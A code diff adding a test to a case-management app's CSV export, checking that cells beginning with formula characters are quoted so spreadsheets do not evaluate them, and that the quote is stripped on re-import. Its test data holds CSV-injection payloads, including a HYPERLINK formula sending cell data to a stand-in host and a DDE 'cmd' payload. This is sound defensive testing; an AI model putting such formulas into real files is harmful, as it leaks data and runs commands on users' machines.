@@ -1,10 +1,10 @@
-import { mkdtempSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import iconv from 'iconv-lite';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { AppContext, Config } from '../src/app/context.ts';
-import { readTable, toCsv, writeXlsx } from '../src/transfer/table-file.ts';
+import { parseCsv, readTable, toCsv, writeXlsx } from '../src/transfer/table-file.ts';
 import { NO_RECEIPT, importCases } from '../src/transfer/import.ts';
 import { exportCases } from '../src/transfer/export.ts';
 import { submitterOf } from '../src/notify/recipients.ts';
@@ -192,6 +192,42 @@ describe.each(BACKENDS)('import and export on $name', (backend) => {
     expect(back.problems.every((p) => p.column === 'trackingNo' && p.problem.includes('已存在'))).toBe(true);
     expect(back.problems).toHaveLength(4);
   });
+
+  it('writes formula-looking cells of a CSV export behind a quote, and reading strips it again (issue 28)', async () => {
+    const dangerous = [
+      '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+退款',
+      '-5 元',
+      '\t=1+1',
+      '\r=1+1',
+      "'=already quoted",
+      "''+twice",
+      "'plain quote",
+    ];
+    const rows = dangerous.map((d, i) => {
+      const row = good(900 + i);
+      row[4] = d; // 主题
+      row[5] = `${d} 内容`; // 内容
+      return row;
+    });
+    expect((await importCases(ctx, [HEADER, ...rows], opts)).imported).toBe(dangerous.length);
+    const out = join(dir, `formulas-${backend.name}.csv`);
+    const r = await runCli(['export', '--out', out, '--procedure', 'customer-complaint'], cliEnv(config));
+    expect(r.code, r.stderr).toBe(0);
+    // In the file no cell starts with a character a spreadsheet evaluates.
+    const raw = parseCsv(readFileSync(out, 'utf8').replace(/^\uFEFF/, ''));
+    for (const cell of raw.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const subjects = new Map(raw.map((row) => [row[0], row[4]]));
+    expect(subjects.get('HIS-2024-0900')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点击")');
+    expect(subjects.get('HIS-2024-0906')).toBe("''=already quoted");
+    expect(subjects.get('HIS-2024-0908')).toBe("'plain quote"); // nothing to escape
+    // Read back, every value is what was exported.
+    expect(await readTable(out)).toEqual(await exportCases(ctx, opts));
+    const back = new Map((await readTable(out)).map((row) => [row[0], row[4]]));
+    // (A subject is stored trimmed, so the tab and CR ones come back as '=1+1'.)
+    dangerous.forEach((d, i) => expect(back.get(`HIS-2024-0${900 + i}`)).toBe(d.trim()));
+  }, 180_000);
 
   it('refuses a file without the required columns', async () => {
     const r = await importCases(
